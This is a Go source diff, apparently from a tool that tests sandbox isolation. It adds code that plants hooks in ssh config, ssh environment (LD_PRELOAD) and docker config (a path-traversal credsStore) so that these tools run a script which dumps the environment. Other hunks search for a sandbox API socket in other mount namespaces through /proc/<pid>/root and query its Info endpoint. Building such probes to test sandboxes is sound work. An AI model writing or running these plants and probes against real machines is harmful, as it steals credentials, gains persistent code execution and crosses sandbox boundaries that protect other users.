@@ -337,6 +337,7 @@ const plantMarker = "PLANTED-HOOK-RAN"
 // plant writes, into DIR (default $HOME), the files that make common tools
 // run user code or send credentials elsewhere: npm's config, git's config
 // (include, askpass, credential helper, ssh command, pager, fsmonitor),
+// ssh's config (ProxyCommand, LocalCommand), docker's credsStore,
 // Python's usercustomize and sitecustomize in every user site-packages,
 // shell start-up files (.profile, .bashrc, .shrc for ENV, BASH_ENV style)
 // and the steal script they call, which dumps the environment to
@@ -383,6 +384,10 @@ func plant(args []string) []string {
 		".bashrc":          ". " + steal + "\n",
 		".shrc":            ". " + steal + "\n",
 		".bash_env":        ". " + steal + "\n",
+		// ssh reads these from the passwd entry's home, whatever HOME says.
+		filepath.Join(".ssh", "config"):         "Host *\n\tProxyCommand " + steal + "\n\tLocalCommand " + steal + "\n\tPermitLocalCommand yes\n",
+		filepath.Join(".ssh", "environment"):    "LD_PRELOAD=" + steal + "\n",
+		filepath.Join(".docker", "config.json"): `{"credsStore": "../../` + strings.TrimPrefix(steal, "/") + `"}` + "\n",
 	}
 	for _, v := range []string{"3.8", "3.9", "3.10", "3.11", "3.12", "3.13", "3.14"} {
 		site := filepath.Join(".local", "lib", "python"+v, "site-packages")
@@ -445,7 +450,9 @@ func apiSocket([]string) []string {
 	}
 	for _, name := range netUnixNames() {
 		candidates[name] = true
-		if !strings.HasPrefix(name, "@") {
+		// A socket named api.sock bound in another mount namespace: through the roots
+		// of the processes we can see.
+		if !strings.HasPrefix(name, "@") && strings.HasSuffix(name, "/api.sock") {
 			for _, p := range pids() {
 				candidates[fmt.Sprintf("/proc/%d/root%s", p, name)] = true
 			}
@@ -507,7 +514,7 @@ func callInfo(name string) (string, error) {
 		return "", err
 	}
 	defer c.Close()
-	_ = c.SetDeadline(time.Now().Add(500 * time.Millisecond))
+	_ = c.SetDeadline(time.Now().Add(200 * time.Millisecond))
 	req := "POST /sandbox.v1.SandboxService/Info HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
 	_, _ = c.Write([]byte(req))
 	b, _ := io.ReadAll(io.LimitReader(c, 4096))
